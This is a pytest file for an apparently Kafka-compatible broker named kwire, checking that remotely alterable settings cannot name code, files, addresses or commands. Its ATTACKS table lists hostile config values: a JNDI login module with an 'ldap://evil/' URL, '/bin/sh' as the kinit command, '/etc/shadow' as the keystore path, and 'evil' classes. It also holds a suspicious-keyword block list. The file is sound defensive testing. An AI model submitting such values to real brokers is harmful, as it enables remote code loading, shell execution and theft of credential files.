"""Settings that clients may alter (RELIABILITY.md, row 54): none names code, a file, an address or a command."""

from __future__ import annotations

from pathlib import Path

import pytest

from kwire.cluster.configs.broker import BROKER_KEYS, DYNAMIC_ONLY_KEYS
from kwire.cluster.configs.client_metrics import CLIENT_METRICS_KEYS
from kwire.cluster.configs.config_keys import ConfigType
from kwire.cluster.configs.group import GROUP_KEYS
from kwire.cluster.configs.settings import CurrentSettings
from kwire.cluster.configs.topic import TOPIC_KEYS
from kwire.cluster.metadata.image import MetadataImage
from kwire.protocol.error_codes import ErrorCode
from kwire.server.settings.config import make_config
from kwire.server.settings.dynamic_configs import DynamicConfigs
from kwire.server.settings.local_settings import is_local
from tests.server.test_configs import BROKER, SET, TOPIC, alter
from tests.support.raw_client import RawClient
from tests.support.requests import create_topic

ALTERED_REMOTELY = frozenset(
    {
        "compression.type",
        "cordoned.log.dirs",
        "listener.security.protocol.map",
        "listeners",
        "log.cleanup.policy",
        "log.message.timestamp.type",
        "max.connections.per.ip.overrides",
        "metric.reporters",
        "sasl.enabled.mechanisms",
        "sasl.kerberos.principal.to.local.rules",
        "sasl.kerberos.service.name",
        "sasl.mechanism.inter.broker.protocol",
        "ssl.cipher.suites",
        "ssl.client.auth",
        "ssl.enabled.protocols",
        "ssl.endpoint.identification.algorithm",
        "ssl.key.password",
        "ssl.keystore.certificate.chain",
        "ssl.keystore.key",
        "ssl.keystore.password",
        "ssl.keystore.type",
        "ssl.protocol",
        "ssl.truststore.certificates",
        "ssl.truststore.password",
        "ssl.truststore.type",
    }
)
"""Every setting of a broker that is text and may be altered remotely, each checked by a reader.

listeners and the protocol map accept only the listeners that there are, cordoned.log.dirs only directories of log.dirs,
metric.reporters only Kafka's own class, which has no effect. Numbers and booleans name nothing.
"""
TEXTS = (ConfigType.STRING, ConfigType.LIST, ConfigType.CLASS, ConfigType.PASSWORD)
SUSPICIOUS = ("class", "file", "location", "url", "cmd", "command", "path", "provider", "jaas", "module", "plugin")


def test_row_54_every_text_that_may_be_altered_is_on_the_list() -> None:
    altered = {key.name for key in BROKER_KEYS.values() if key.dynamic and key.type in TEXTS and not is_local(key.name)}
    assert altered == ALTERED_REMOTELY
    assert not [name for name in altered for word in SUSPICIOUS if word in name]


def test_row_54_topics_groups_and_subscriptions_name_no_code() -> None:
    keys = [*TOPIC_KEYS.values(), *GROUP_KEYS.values(), *CLIENT_METRICS_KEYS.values(), *DYNAMIC_ONLY_KEYS.values()]
    assert not [key.name for key in keys if key.type is ConfigType.CLASS]
    assert not [
        key.name for key in keys for word in SUSPICIOUS if word in key.name and key.name != "file.delete.delay.ms"
    ]


ATTACKS = {
    "sasl.jaas.config": 'com.sun.security.auth.module.JndiLoginModule required user.provider.url="ldap://evil/";',
    "listener.name.plaintext.plain.sasl.jaas.config": "com.sun.security.auth.module.LdapLoginModule required;",
    "listener.name.plaintext.scram-sha-256.sasl.jaas.config": "evil.Module required;",
    "sasl.kerberos.kinit.cmd": "/bin/sh",
    "principal.builder.class": "evil.Principals",
    "ssl.engine.factory.class": "evil.Engines",
    "listener.name.plaintext.ssl.keystore.location": "/etc/shadow",
    "listener.name.plaintext.ssl.truststore.location": "/etc/shadow",
    "listener.name.plaintext.ssl.engine.factory.class": "evil.Engines",
    "config.providers": "evil",
    "ssl.provider": "evil",
    "ssl.keymanager.algorithm": "evil",
    "ssl.secure.random.implementation": "evil",
}


@pytest.mark.parametrize("resource", ["", "1"])
@pytest.mark.parametrize("name", ATTACKS)
def test_row_54_code_files_addresses_and_commands_are_rejected(client: RawClient, name: str, resource: str) -> None:
    code = alter(client, BROKER, resource, (name, SET, ATTACKS[name]))
    is_list = BROKER_KEYS.get(name) is not None and not BROKER_KEYS[name].dynamic
    assert code == (ErrorCode.INVALID_REQUEST if is_list else ErrorCode.INVALID_CONFIG)


@pytest.mark.parametrize(
    "name",
    [
        "authorizer.class.name",
        "sasl.oauthbearer.jwks.endpoint.url",
        "sasl.oauthbearer.token.endpoint.url",
        "sasl.server.callback.handler.class",
        "sasl.login.callback.handler.class",
        "create.topic.policy.class.name",
        "client.quota.callback.class",
        "log.dirs",
    ],
)
def test_row_54_settings_that_are_read_at_start_are_rejected(client: RawClient, name: str) -> None:
    assert alter(client, BROKER, "1", (name, SET, "evil")) == ErrorCode.INVALID_REQUEST


def test_row_54_the_value_of_the_file_may_be_set_again(client: RawClient) -> None:
    default = str(BROKER_KEYS["ssl.secure.random.implementation"].default or "")
    if default:
        assert alter(client, BROKER, "1", ("ssl.secure.random.implementation", SET, default)) == ErrorCode.NONE
    assert alter(client, BROKER, "1", ("sasl.kerberos.kinit.cmd", SET, "/usr/bin/kinit")) == ErrorCode.NONE


def test_row_54_what_a_controller_has_stored_has_no_effect() -> None:
    """A controller accepts some changes without the broker's checks, see `test_controller_configs`."""
    settings = CurrentSettings(make_config({}).parsed)
    dynamic = DynamicConfigs(1, settings)
    dynamic.start(MetadataImage(configs={(BROKER, "1"): dict(ATTACKS)}))
    assert dynamic.own == {}
    assert settings.values == settings.at_start


def test_row_54_unknown_settings_are_rejected_or_have_no_effect(client: RawClient, tmp_path: Path) -> None:
    """A topic has no others; those of brokers are stored for plug-ins, as in Kafka, and kwire has no plug-ins."""
    topic, _ = create_topic(client)
    assert alter(client, TOPIC, topic, ("evil.class", SET, "x")) == ErrorCode.INVALID_CONFIG
    assert alter(client, 32, "group", ("evil.class", SET, "x")) == ErrorCode.INVALID_CONFIG
    assert alter(client, 16, "metrics", ("evil.class", SET, "x")) == ErrorCode.INVALID_REQUEST
    assert alter(client, 8, "1", ("evil.Class", SET, "DEBUG")) == ErrorCode.INVALID_CONFIG
